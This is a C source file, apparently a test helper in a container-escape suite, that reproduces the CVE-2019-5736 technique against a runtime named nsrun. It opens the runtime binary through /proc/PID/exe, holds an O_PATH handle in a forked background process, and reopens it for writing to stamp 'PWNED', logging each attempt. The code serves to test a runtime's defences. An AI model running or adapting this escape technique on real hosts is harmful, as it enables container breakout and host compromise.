/* Escape-suite helper: CVE-2019-5736 against nsrun.  Usage:
 *   exe-attack PID REPORT
 *   exe-attack --hold FD REPORT
 * Tries to open /proc/PID/exe (the runtime) for writing; then keeps an
 * O_PATH fd on it in a background process that waits for PID to exit and
 * reopens it for writing through /proc/self/fd, which is how the runc
 * attack got past ETXTBSY.  Each attempt appends a line to REPORT; the
 * last line is "done".  Prints the first attempt's result on stdout.
 * With --hold, FD is such a handle already (see preload/exe-grab.c): the
 * writes are retried for up to 15 s while the file is busy (ETXTBSY), in
 * the background unless this is the container's PID 1. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *path, const char *what, int err)
{
	FILE *f = fopen(path, "a");
	if (!f)
		return;
	fprintf(f, "%s: %s\n", what, err ? strerrorname_np(err) : "ok");
	fclose(f);
}

static void try_write(int path, const char *out)
{
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", path);
	int w = open(self, O_WRONLY);
	report(out, "reopen for writing after exit", w < 0 ? errno : 0);
	if (w >= 0) {
		ssize_t n = pwrite(w, "PWNED", 5, 0);
		report(out, "write after exit", n == 5 ? 0 : errno);
	}
}

static int hold(int path, const char *out)
{
	if (getpid() != 1 && fork() != 0)
		return 0;
	setsid();
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", path);
	for (int i = 0; i < 300; i++) {
		int w = open(self, O_WRONLY);
		if (w >= 0 || errno != ETXTBSY) {
			if (w >= 0)
				close(w);
			break;
		}
		usleep(50000);
	}
	try_write(path, out);
	report(out, "done", 0);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "--hold") == 0)
		return hold(atoi(argv[2]), argv[3]);
	if (argc != 3) {
		fprintf(stderr, "usage: exe-attack PID REPORT\n");
		return 2;
	}
	int pid = atoi(argv[1]);
	const char *out = argv[2];
	char exe[64];
	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	int fd = open(exe, O_WRONLY);
	printf("open for writing: %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	report(out, "open for writing", fd < 0 ? errno : 0);
	if (fd >= 0 && write(fd, "PWNED", 5) == 5)
		report(out, "write while running", 0);
	int path = open(exe, O_PATH);
	report(out, "open O_PATH", path < 0 ? errno : 0);
	if (path < 0) {
		report(out, "done", 0);
		return 0;
	}
	if (fork() != 0)
		return 0;
	setsid();
	for (int i = 0; i < 200 && kill(pid, 0) == 0; i++)
		usleep(50000);
	try_write(path, out);
	report(out, "done", 0);
	return 0;
}
